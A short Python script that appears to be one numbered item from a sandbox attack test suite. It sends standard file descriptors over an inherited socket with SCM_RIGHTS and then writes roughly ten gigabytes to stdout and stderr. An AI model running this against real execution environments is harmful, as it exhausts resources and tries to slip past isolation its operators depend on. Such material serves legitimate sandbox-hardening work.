# /// attack
# group = "D"
# number = 51
# lesson = "02_one_step"
# outcome = "="
# tries = "passes descriptors along, and prints ten gigabytes"
# ///
# %% last
import array, os, socket, sys
try:
    channel = socket.socket(fileno=os.dup(3))
    for _ in range(100):
        channel.sendmsg([b""], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2]).tobytes())])
except OSError:
    pass
piece = "x" * 10**8
for _ in range(50):
    sys.stdout.write(piece)
    sys.stderr.write(piece)
flood = piece.encode()
for _ in range(50):
    os.write(1, flood)
    os.write(2, flood)
